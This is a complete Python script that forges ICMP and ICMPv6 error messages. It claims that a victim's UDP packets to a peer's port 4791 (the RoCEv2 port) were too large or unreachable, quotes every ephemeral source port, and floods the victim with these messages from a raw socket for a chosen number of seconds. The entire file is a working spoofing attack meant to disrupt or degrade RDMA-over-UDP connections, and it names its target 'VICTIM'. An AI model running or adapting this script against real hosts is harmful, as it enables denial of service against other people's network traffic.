#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Sends forged ICMP: that a packet from one address to port 4791 of another was too long, or did
not arrive.

usage: forge_icmp.py VICTIM PEER SECONDS

Sends VICTIM such messages about PEER repeatedly: they quote its port 4791 and all ports that it may
send from.
"""

import ipaddress
import socket
import struct
import sys
import time

PORT = 4791
SENDING = range(0xc000, 0x10000)
# type, code, the last four bytes of the header
TOO_LONG = {4: (3, 4, 576), 6: (2, 0, 1280)}
UNREACHABLE = {4: [(3, 0, 0), (3, 1, 0), (3, 2, 0), (3, 3, 0), (3, 13, 0), (11, 0, 0)],
               6: [(1, 0, 0), (1, 1, 0), (1, 3, 0), (1, 4, 0), (3, 0, 0)]}


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def forged(victim, peer, sport, claim):
    """Returns an ICMP message to the victim that reports `claim` about the victim's packet from
    port sport to the peer's port 4791."""
    here, there = ipaddress.ip_address(victim), ipaddress.ip_address(peer)
    kind, code, value = claim
    udp = struct.pack("!HHHH", sport, PORT, 4120, 0) + bytes(56)
    addresses = here.packed + there.packed
    if here.version == 4:
        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 4140, 0, 0x4000, 63, 17, 0) + addresses + udp
        body = struct.pack("!I", value) + quoted
        return struct.pack("!BBH", kind, code, checksum(struct.pack("!BBH", kind, code, 0) + body)) + body
    quoted = struct.pack("!IHBB", 6 << 28, 4120, 17, 63) + addresses + udp
    return struct.pack("!BBHI", kind, code, 0, value) + quoted


def sender(version):
    if version == 4:
        return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)


def forge(victim, peer, sport, claim):
    """Sends one message."""
    with sender(ipaddress.ip_address(victim).version) as out:
        out.sendto(forged(victim, peer, sport, claim), (victim, 0))


def main():
    victim, peer, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    version = ipaddress.ip_address(victim).version
    claims = [TOO_LONG[version], *UNREACHABLE[version]]
    all_of_them = [forged(victim, peer, sport, claim) for claim in claims for sport in (PORT, *SENDING)]
    end, messages = time.monotonic() + seconds, 0
    with sender(version) as out:
        while time.monotonic() < end:
            for message in all_of_them:
                out.sendto(message, (victim, 0))
                messages += 1
    print(f"{messages} forged")


if __name__ == "__main__":
    main()
